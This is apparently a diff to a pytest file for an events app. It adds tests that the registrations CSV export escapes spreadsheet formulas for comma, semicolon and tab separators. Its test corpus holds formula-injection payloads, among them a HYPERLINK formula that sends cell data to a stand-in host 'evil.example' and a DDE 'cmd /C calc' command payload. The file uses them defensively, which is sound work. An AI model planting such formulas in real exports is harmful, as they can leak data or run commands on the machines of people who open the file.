@@ -14,7 +14,7 @@ from eventsapp.registration.validation import clean_registration
 from eventsapp.spreadsheet import escape_cell
 
 CSV_CORPUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+1",
-              "-1+2", "@SUM(1,1)", "\t=1+1", " =1+1", "-5"]
+              "-1+2", "@SUM(1,1)", " =1+1", "-5"]
 
 
 @pytest.fixture
@@ -80,6 +80,34 @@ def test_csv_escapes_formula_names(app, admin_client, event_id):
     rows = list(csv.reader(io.StringIO(
         admin_client.get("/admin/events/m/registrations.csv").data.decode("utf-8-sig"))))
     assert rows[1][9] == "'=cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
+def test_no_cell_starts_a_formula_whatever_separator_the_csv_is_opened_with(
+        app, admin_client, event_id, separator):
+    """Issue 20: the export is written with commas, but a spreadsheet may split it at `;`
+    or TAB; each piece that could start a formula carries its own apostrophe."""
+    hostile = {"organisation": "Ann;=HYPERLINK(A1);x", "job_title": "Chair\t+1+1",
+               "dietary": "none,@SUM(1,1)", "accessibility": "ok;  -2+3"}
+    with app.app_context():
+        reg = db.session.scalar(select(Registration).where(Registration.given_name == "Ana"))
+        for field, value in hostile.items():
+            setattr(reg, field, value)
+        db.session.commit()
+    text = admin_client.get("/admin/events/m/registrations.csv").data.decode("utf-8-sig")
+    # A spreadsheet that takes `separator` for the list separator, quotes as CSV quotes.
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator)
+             for cell in row]
+    formula = [c for c in cells if c.lstrip(" \t").startswith(("=", "+", "-", "@"))]
+    assert formula == []
+    assert any("HYPERLINK" in c for c in cells)  # the text is still there, as text
+
+
+def test_escaping_neutralises_each_separated_piece():
+    assert escape_cell("Ann;=HYPERLINK(A1);x") == "Ann;'=HYPERLINK(A1);x"
+    assert escape_cell("a,+1\t-2") == "a,'+1\t'-2"
+    assert escape_cell("=1;=2") == "'=1;'=2"
+    assert escape_cell("Smith, Jane; Lee\tAnn") == "Smith, Jane; Lee\tAnn"
 
 
 def _reg_id(app, given):
